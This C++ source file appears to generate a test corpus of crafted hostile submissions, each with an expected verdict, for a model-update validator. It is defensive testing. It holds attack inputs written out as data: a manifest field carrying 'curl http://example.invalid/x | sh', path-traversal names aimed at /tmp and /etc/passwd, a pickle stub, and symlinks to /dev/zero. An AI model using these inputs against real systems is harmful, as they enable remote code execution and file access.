// Writes the hostile-submission corpus (tests/hostile/README.md): a micro model, its held-out text,
// an expert selection, three miners' keys, the known-miners list, the validator's receipt log, the
// crafted submissions and expected.json (case -> the verdict `teft validate` must give).
//
//   make_hostile_corpus <corpus folder>
//
// Deterministic: the model and the keys are kept when the folder has them (made once, from a fixed
// seed, then committed); the updates come from a seeded integer generator (no transcendental
// functions, so the same bytes on every machine); manifests carry a fixed created_at. Running it
// again on a committed corpus rewrites the same bytes.
#include "core/io/SafetensorsFile.h"
#include "core/io/SafetensorsWriter.h"
#include "core/model/CheckpointGenerator.h"
#include "core/model/ModelConfig.h"
#include "core/model/MoeModel.h"
#include "core/teft/ExpertSelection.h"
#include "core/teft/KnownMiners.h"
#include "core/teft/MinerKey.h"
#include "core/teft/Submission.h"
#include "core/train/MinerJob.h"
#include "core/train/ModelIdentity.h"
#include "core/util/AtomicFile.h"
#include "core/util/Error.h"
#include "core/util/Hash.h"

#include <nlohmann/json.hpp>
#include <torch/torch.h>

#include <cmath>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <functional>
#include <random>
#include <string>

using namespace teft;
namespace fs = std::filesystem;
using nlohmann::json;

namespace {

const char* kCreatedAt = "2026-01-01T00:00:00Z";

// The micro model: one qwen3_moe layer of 4 experts, hidden size 16 (about 30 KB in bf16).
void makeModel(const fs::path& dir)
{
    GenerateOptions go;
    go.arch = "qwen3_moe";
    go.preset = "tiny";
    go.layers = 1;
    json cfg = generatedConfigJson(go);
    cfg["hidden_size"] = 16;
    cfg["intermediate_size"] = 32;
    cfg["moe_intermediate_size"] = 8;
    cfg["num_attention_heads"] = 2;
    cfg["num_key_value_heads"] = 1;
    cfg["head_dim"] = 8;
    cfg["num_experts"] = 4;
    cfg["num_experts_per_tok"] = 2;
    const ModelConfig config = ModelConfig::fromJson(cfg);
    fs::create_directories(dir);
    writeFileAtomically(dir / "config.json", cfg.dump(2) + "\n");
    writeSafetensors(dir / "model.safetensors", randomWeights(config, 11, torch::kBFloat16));
    writeByteLevelTokenizer(dir);
}

std::string heldOutText()
{
    std::string s;
    for (int i = 0; i < 160; ++i)
        s += "record " + std::to_string(i) + ": value=" + std::to_string((i * 37) % 101) +
             " key=" + char('a' + i % 26) + char('a' + (i * 7) % 26) + " end\n\n"; // a document each
    return s;
}

// An update of relative size `scale` per tensor (||Δ_t|| ≈ scale·||Φ_t||/√3), from integers only.
TensorMap update(const TensorMap& phi, std::uint64_t seed, double scale)
{
    std::mt19937_64 rng(seed);
    TensorMap out;
    for (const auto& [name, p] : phi) {
        const double rms = p.to(torch::kDouble).norm().item<double>() / std::sqrt(double(p.numel()));
        at::Tensor t = torch::empty(p.sizes(), torch::kFloat);
        float* d = t.data_ptr<float>();
        for (std::int64_t i = 0; i < t.numel(); ++i) {
            const double u = double(std::int64_t(rng() >> 40) - (std::int64_t(1) << 23)) / double(1 << 23); // [-1, 1)
            d[i] = float(scale * rms * u);
        }
        out[name] = t;
    }
    return out;
}

void resign(const fs::path& dir, const MinerKey& key)
{
    // The package hash by its definition (Submission.h), not through Submission::open, which
    // refuses some of the manifests signed here.
    const std::string manifestBytes = readFile(dir / "manifest.json");
    Sha256 h;
    h.update("teft-submission-v1\n" + std::to_string(manifestBytes.size()) + "\n");
    h.update(manifestBytes);
    h.update(readFile(dir / "experts.safetensors"));
    const std::string sha = h.hex();
    SubmissionSignature sig;
    sig.publicKey = key.publicKeyHex();
    sig.sha256 = sha;
    sig.signature = key.sign(signatureMessage(sha));
    writeFileAtomically(dir / "signature.json", sig.toJson().dump(1) + "\n");
}

void editManifest(const fs::path& dir, const std::function<void(json&)>& edit)
{
    json j = json::parse(readFile(dir / "manifest.json"));
    edit(j);
    writeFileAtomically(dir / "manifest.json", j.dump(1) + "\n");
}

} // namespace

int main(int argc, char** argv)
{
    if (argc != 2) {
        std::fprintf(stderr, "usage: make_hostile_corpus <corpus folder>\n");
        return 2;
    }
    try {
        const fs::path root = argv[1];
        const fs::path modelDir = root / "model";
        if (!fs::exists(modelDir / "model.safetensors"))
            makeModel(modelDir);
        writeFileAtomically(root / "heldout.txt", heldOutText());
        ExpertSelection selection;
        selection.setLayer(0, {1, 3});
        selection.save((root / "selection.json").string());
        const MinerKey alice = MinerKey::loadOrCreate(root / "keys" / "alice", "alice");
        const MinerKey bob = MinerKey::loadOrCreate(root / "keys" / "bob", "bob");
        const MinerKey mallory = MinerKey::loadOrCreate(root / "keys" / "mallory", "mallory"); // not trusted
        KnownMiners known;
        known.add(alice.publicKey());
        known.add(bob.publicKey());
        known.save(root / "known_miners.json");

        // Φ(0) as the validator sees it (ValidatorJob: fp32, full routing) and its fingerprint.
        MoeModelOptions opt;
        opt.computeDtype = torch::kFloat;
        opt.mode = ExpertMode::Full;
        opt.selection = selection.layers();
        const auto model = MoeModel::load(modelDir, opt);
        const auto names = selectedTensorNames(model->config(), selection);
        const TensorMap phi = currentExperts(*model, names);
        const std::string baseFp = baseFingerprint(phi, configIdentity(modelDir));

        const fs::path subs = root / "submissions";
        fs::remove_all(subs);
        fs::create_directories(subs);
        json cases = json::object();
        std::uint64_t nextSeed = 100;
        auto manifest = [&](const std::string& shard) {
            SubmissionManifest m;
            m.baseFingerprint = baseFp;
            m.selectionHash = selection.hash();
            m.round = 0;
            m.innerSteps = 10;
            m.tokensSeen = 2560;
            m.dataShard = shard;
            m.training = {{"lr", 1e-3}, {"mode", "full"}};
            m.createdAt = kCreatedAt;
            return m;
        };
        // One case: a submission written honestly, then `spoil` makes it what the case is about.
        auto add = [&](const std::string& name, const std::string& verdict, const std::string& needle,
                       const std::string& why, const MinerKey* key, TensorMap delta,
                       const std::function<void(const fs::path&)>& spoil = {},
                       const std::function<void(SubmissionManifest&)>& edit = {}) {
            SubmissionManifest m = manifest(name);
            if (edit)
                edit(m);
            writeEncodedSubmission(subs / name, m, delta, key);
            if (spoil)
                spoil(subs / name);
            cases[name] = {{"verdict", verdict}, {"message_contains", needle}, {"why", why}};
        };
        auto fresh = [&] { return update(phi, nextSeed++, 0.05); };

        const TensorMap honest = fresh();
        add("honest", "accepted", "passed all checks",
            "alice's honest update; the receipt log says the validator received it in an earlier scan", &alice, honest);
        add("honest-bob", "accepted", "passed all checks", "bob's honest update", &bob, fresh());
        std::uint64_t flipOffset = 0;
        add("tampered-tensor", "hash_mismatch", "delta_sha256",
            "one bit of the tensor data flipped after signing (the test flips it back: restored-tampered-tensor, "
            "accepted)",
            &alice, fresh(), [&](const fs::path& d) {
                const fs::path f = d / "experts.safetensors";
                flipOffset = fs::file_size(f) - 5;
                std::fstream s(f, std::ios::in | std::ios::out | std::ios::binary);
                s.seekg(std::streamoff(flipOffset));
                char c = 0;
                s.get(c);
                s.seekp(std::streamoff(flipOffset));
                s.put(char(c ^ 0x01));
            });
        cases["tampered-tensor"]["restore"] = {{"file", "experts.safetensors"}, {"offset", flipOffset}, {"xor", 1}};
        add("tampered-manifest", "hash_mismatch", "signed hash", "tokens_seen raised in the manifest after signing",
            &alice, fresh(), [](const fs::path& d) { editManifest(d, [](json& j) { j["tokens_seen"] = 999999; }); });
        add("swapped-signature", "hash_mismatch", "signed hash",
            "alice's package with bob's signature.json (a valid signature of another submission)", &alice, fresh(),
            [&](const fs::path& d) {
                fs::copy_file(subs / "honest-bob" / "signature.json", d / "signature.json",
                              fs::copy_options::overwrite_existing);
            });
        add("forged-signature", "bad_signature", "does not verify",
            "the right package hash and alice's public key, signed by mallory's key", &alice, fresh(),
            [&](const fs::path& d) {
                json sig = json::parse(readFile(d / "signature.json"));
                sig["signature"] = mallory.sign(signatureMessage(sig["sha256"].get<std::string>()));
                writeFileAtomically(d / "signature.json", sig.dump(1) + "\n");
            });
        add("unknown-key", "unknown_key", "not in the known-miners list",
            "validly signed by mallory, whose key is not trusted", &mallory, fresh());
        add("unsigned", "unsigned", "not signed", "no signature.json", nullptr, fresh());
        add("wrong-miner-id", "wrong_miner_id", "belongs to known miner 'alice'",
            "signed by alice's key, claiming to be bob", &alice, fresh(), {},
            [](SubmissionManifest& m) { m.minerId = "bob"; });
        add("traversal-miner-id", "wrong_miner_id", "belongs to known miner 'alice'",
            "a miner id that is a path out of any folder it might be joined to", &alice, fresh(), {},
            [](SubmissionManifest& m) { m.minerId = "../../../../tmp/pwned"; });
        add("unknown-manifest-key", "malformed", "post_merge_hook",
            "a manifest key the format does not have (validly signed): not silently ignored", &alice, fresh(),
            [&](const fs::path& d) {
                editManifest(d, [](json& j) { j["post_merge_hook"] = "curl http://example.invalid/x | sh"; });
                resign(d, alice);
            });
        add("wrong-base", "wrong_base", "not the current base", "built on another Φ(t)", &alice, fresh(), {},
            [](SubmissionManifest& m) { m.baseFingerprint = std::string(64, 'a'); });
        add("wrong-selection", "wrong_selection", "expert selection", "for another expert selection", &alice, fresh(),
            {}, [](SubmissionManifest& m) { m.selectionHash = std::string(64, 'b'); });
        add("wrong-round", "wrong_round", "not round 0", "for round 3", &alice, fresh(), {},
            [](SubmissionManifest& m) { m.round = 3; });
        {
            TensorMap d = fresh();
            d["model.layers.0.mlp.experts.0.up_proj.weight"] = d.begin()->second.clone();
            add("extra-tensor", "extra_tensor", "experts.0.up_proj", "an unselected expert's tensor too", &alice, d);
        }
        {
            TensorMap d = fresh();
            d.erase(names.back());
            add("missing-tensor", "missing_tensor", names.back(), "one selected tensor left out", &alice, d);
        }
        {
            TensorMap d = fresh();
            d[names.front() + "/../../../../../etc/passwd"] = d.at(names.front()).clone();
            add("traversal-tensor-name", "extra_tensor", "../../", "a tensor name that is a path", &alice, d);
        }
        {
            TensorMap d = fresh();
            d[names.front()] = d.at(names.front()).t().contiguous();
            add("wrong-shape", "wrong_shape", "expected", "one tensor transposed", &alice, d);
        }
        {
            TensorMap d = fresh();
            d[names.front()] = d.at(names.front()).to(torch::kBFloat16);
            add("wrong-dtype", "wrong_dtype", "BF16, expected F32", "one tensor in bf16", &alice, d);
        }
        {
            TensorMap d = fresh();
            d[names.front()].view(-1)[3] = std::nanf("");
            add("nan", "non_finite", "NaN", "one NaN", &alice, d);
        }
        {
            TensorMap d = fresh();
            d[names.back()].view(-1)[0] = -INFINITY;
            add("inf", "non_finite", "infinite", "one -Inf", &alice, d);
        }
        add("huge-norm", "norm_too_large", "--max-relative-norm",
            "an honest-sized update scaled by 1000: far beyond the default bound of 2x the weights it changes", &alice,
            update(phi, nextSeed++, 50.0));
        add("exact-copy", "duplicate", "copy of the earlier submission honest",
            "alice's update re-signed by bob, received after alice's", &bob, honest);
        {
            TensorMap d;
            const TensorMap noise = update(phi, nextSeed++, 0.05 * 1e-3);
            for (const auto& [n, t] : honest)
                d[n] = t + noise.at(n);
            add("near-copy", "duplicate", "near copy of the earlier submission honest",
                "alice's update plus noise of 0.1 % of its norm, re-signed by bob", &bob, d);
        }
        add("pickle-manifest", "malformed", "not valid JSON", "a pickle in place of manifest.json", &alice, fresh(),
            [](const fs::path& d) { writeFileAtomically(d / "manifest.json", std::string("\x80\x04\x95\x00", 4)); });
        add("no-manifest", "malformed", "has no manifest.json", "the tensors alone", &alice, fresh(),
            [](const fs::path& d) { fs::remove(d / "manifest.json"); });
        add("truncated-tensors", "malformed", "experts.safetensors", "experts.safetensors cut in half", &alice, fresh(),
            [](const fs::path& d) {
                const auto f = d / "experts.safetensors";
                fs::resize_file(f, fs::file_size(f) / 2);
            });

        // What git cannot hold (links, FIFOs, sparse or large files): a valid submission in the
        // corpus, turned into the case by the replay test ("materialise").
        auto materialised = [&](const std::string& name, const std::string& verdict, const std::string& needle,
                                const std::string& why, json action) {
            add(name, verdict, needle, why, &alice, fresh());
            cases[name]["materialise"] = std::move(action);
        };
        materialised("symlink-out", "malformed", "symbolic link",
                     "signature.json is a link to a file outside the submission folder",
                     {{"action", "symlink"}, {"file", "signature.json"}, {"target", "../../outside/signature.json"}});
        materialised("symlink-dev-zero", "malformed", "symbolic link", "signature.json is a link to /dev/zero",
                     {{"action", "symlink"}, {"file", "signature.json"}, {"target", "/dev/zero"}});
        materialised("oversized-manifest", "malformed", "more than the",
                     "manifest.json of valid JSON padded with 17 MiB of spaces (the limit is 16 MiB)",
                     {{"action", "pad"}, {"file", "manifest.json"}, {"bytes", 17 << 20}});
        materialised("sparse-manifest", "malformed", "more than the", "manifest.json a 2 GiB sparse file",
                     {{"action", "sparse"}, {"file", "manifest.json"}, {"bytes", std::uint64_t(2) << 30}});
        materialised("sparse-signature", "malformed", "more than the", "signature.json a 1 GiB sparse file",
                     {{"action", "sparse"}, {"file", "signature.json"}, {"bytes", std::uint64_t(1) << 30}});
        materialised("sparse-tensors", "malformed", "belong to no tensor",
                     "experts.safetensors extended by a 4 GiB hole after its data",
                     {{"action", "sparse"}, {"file", "experts.safetensors"}, {"bytes", std::uint64_t(4) << 30}});
        materialised("fifo-manifest", "malformed", "FIFO", "a FIFO in place of manifest.json",
                     {{"action", "fifo"}, {"file", "manifest.json"}});
        materialised("fifo-tensors", "malformed", "FIFO", "a FIFO in place of experts.safetensors",
                     {{"action", "fifo"}, {"file", "experts.safetensors"}});
        materialised("fifo-signature", "malformed", "FIFO", "a FIFO in place of signature.json",
                     {{"action", "fifo"}, {"file", "signature.json"}});
        {
            const std::string bytes = "non-utf8-name-\xff";
            std::string hex;
            for (unsigned char c : bytes) {
                char b[3];
                std::snprintf(b, sizeof b, "%02x", c);
                hex += b;
            }
            materialised("non-utf8-name", "malformed", "not valid UTF-8",
                         "the folder is renamed to a name with a byte that is not UTF-8 (0xFF); the report lists it "
                         "with U+FFFD in its place",
                         {{"action", "rename"}, {"to_hex", hex}, {"report_name", "non-utf8-name-\xEF\xBF\xBD"}});
        }
        cases["folder-symlink"] = {{"verdict", "malformed"},
                                   {"message_contains", "symbolic link"},
                                   {"why", "a folder that is a link to bob's submission, to take a second slot"},
                                   {"materialise", {{"action", "folder_symlink"}, {"target", "honest-bob"}}}};

        // The validator's receipt log: it received alice's honest update in an earlier scan, so
        // the copies of it (received now) are refused and alice keeps the credit.
        const std::string honestSha = Submission::open(subs / "honest")->packageSha256();
        fs::create_directories(root / "state");
        writeFileAtomically(root / "state" / "receipts.json",
                            json{{"scans", 1},
                                 {"receipts", json::array({{{"folder", "honest"},
                                                            {"package_sha256", honestSha},
                                                            {"scan", 1},
                                                            {"received_at", kCreatedAt}}})}}
                                    .dump(1) +
                                "\n");
        writeFileAtomically(root / "expected.json",
                            json{{"format", "teft-hostile-corpus"}, {"version", 1}, {"cases", cases}}.dump(1) + "\n");
        std::printf("%zu cases written to %s\n", cases.size(), root.c_str());
        return 0;
    } catch (const std::exception& e) {
        std::fprintf(stderr, "make_hostile_corpus: %s\n", e.what());
        return 1;
    }
}
